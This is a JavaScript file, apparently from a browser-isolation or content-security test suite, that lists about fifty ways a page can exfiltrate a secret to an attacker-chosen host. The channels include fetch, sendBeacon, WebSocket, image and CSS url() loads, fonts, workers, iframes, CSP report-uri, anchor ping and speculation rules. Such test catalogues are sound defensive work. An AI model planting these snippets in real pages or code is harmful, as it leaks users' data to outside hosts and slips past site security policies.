// Exfiltration by request: anything that makes the browser fetch an address of the attacker's choice.
const to = (what) => `${setup.http}/${what}?d=${secret()}`;
const style = (css) => element("style", { textContent: css });

attacks.fetch = () => fetch(to("fetch"), { mode: "no-cors" });
attacks["fetch-keepalive"] = () =>
  fetch(to("keepalive"), { mode: "no-cors", method: "POST", keepalive: true, body: "stolen" });
attacks.xhr = () => {
  const request = new XMLHttpRequest();
  request.open("GET", to("xhr"));
  request.send();
};
attacks.beacon = () => navigator.sendBeacon(to("beacon"), "stolen");
attacks.websocket = () => new WebSocket(to("websocket").replace("http", "ws"));
attacks.eventsource = () => new EventSource(to("events"));
attacks.image = () => (new Image().src = to("image"));
attacks.srcset = () => element("img", { srcset: to("srcset") + " 1x" });
attacks["css-background"] = () => style(`body { background: url("${to("background")}") }`);
attacks["css-import"] = () => style(`@import url("${to("import")}");`);
attacks["css-attribute-selector"] = () => {
  element("input", { value: "s3cret" }).setAttribute("value", "s3cret");
  style(`input[value^="s"] { background: url("${to("starts-with-s")}") }`);
};
attacks["font-face"] = () => {
  style(`@font-face { font-family: leak; src: url("${to("font")}") }`);
  element("p", { textContent: "x", style: "font-family: leak" });
};
attacks["css-filter"] = () => {
  style(`p { mask-image: url("${to("mask")}"); list-style-image: url("${to("list")}") }`);
  element("p", { textContent: "x" });
};
attacks.script = () => element("script", { src: to("script") });
attacks["dynamic-import"] = () => import(to("module"));
attacks["import-map"] = () => {
  element("script", { type: "importmap", textContent: JSON.stringify({ imports: { leak: to("mapped") } }) });
  element("script", { type: "module", textContent: 'import "leak"' });
};
attacks.stylesheet = () => element("link", { rel: "stylesheet", href: to("stylesheet") });
attacks.preload = () => element("link", { rel: "preload", as: "image", href: to("preload") });
attacks.prefetch = () => element("link", { rel: "prefetch", href: to("prefetch") });
attacks.modulepreload = () => element("link", { rel: "modulepreload", href: to("modulepreload") });
attacks.audio = () => new Audio(to("audio")).load();
attacks["video-poster"] = () => element("video", { poster: to("poster") });
attacks.track = () => {
  const video = element("video", { crossOrigin: "anonymous" });
  const track = Object.assign(document.createElement("track"), { src: to("track"), default: true });
  video.append(track);
  track.track.mode = "showing";
};
attacks.object = () => element("object", { data: to("object") });
attacks.embed = () => element("embed", { src: to("embed") });
attacks["svg-image"] = () => add(`<svg><image href="${to("svg")}" width="9" height="9"/></svg>`);
attacks["svg-use"] = () => add(`<svg><use href="${to("use")}#x"/></svg>`);
attacks["input-image"] = () => element("input", { type: "image", src: to("input") });
attacks.base = () => {
  document.head.insertAdjacentHTML("afterbegin", `<base href="${setup.http}/">`);
  element("img").setAttribute("src", "relative?d=stolen");
};
attacks.worker = () => {
  const code = `fetch("${to("worker")}", { mode: "no-cors" })`;
  new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
};
attacks["worker-import-scripts"] = () => {
  const code = `importScripts("${to("worker-script")}")`;
  new Worker("data:text/javascript," + encodeURIComponent(code));
};
attacks["nested-srcdoc"] = () => {
  element("iframe", { srcdoc: `<img src="${to("nested")}">` });
};
attacks["blob-frame"] = () => {
  element("iframe", { src: URL.createObjectURL(new Blob([`<img src="${to("blob")}">`], { type: "text/html" })) });
};
attacks["data-frame"] = () => element("iframe", { src: `data:text/html,<img src="${to("data")}">` });
attacks["document-write"] = () => {
  const frame = element("iframe");
  frame.contentDocument.write(`<img src="${to("written")}">`);
};
attacks["report-uri"] = () => {
  const policy = `img-src 'none'; report-uri ${to("report")}`;
  document.head.insertAdjacentHTML("beforeend", `<meta http-equiv="Content-Security-Policy" content="${policy}">`);
  new Image().src = "data:,x";
};
attacks["anchor-ping"] = () => {
  const link = element("a", { href: "#x", ping: to("ping"), textContent: "x" });
  link.onclick = (event) => event.stopPropagation(); // the host's first script would follow it in its own way
  link.click();
};
attacks["speculation-rules"] = () => {
  const rules = { prefetch: [{ source: "list", urls: [to("speculated")], eagerness: "immediate" }] };
  element("script", { type: "speculationrules", textContent: JSON.stringify(rules) });
};
attacks.icon = () => element("link", { rel: "icon", href: to("icon") });
attacks.manifest = () => element("link", { rel: "manifest", href: to("manifest") });
attacks.preconnect = () => element("link", { rel: "preconnect", href: `http://${setup.host}:${setup.tcp}` });
attacks["fetch-later"] = () => fetchLater(to("later"), { activateAfter: 0 });
attacks["css-font-load"] = () => new FontFace("leak", `url("${to("fontface")}")`).load();
attacks["same-host"] = () => fetch("/stolen", { mode: "no-cors" });
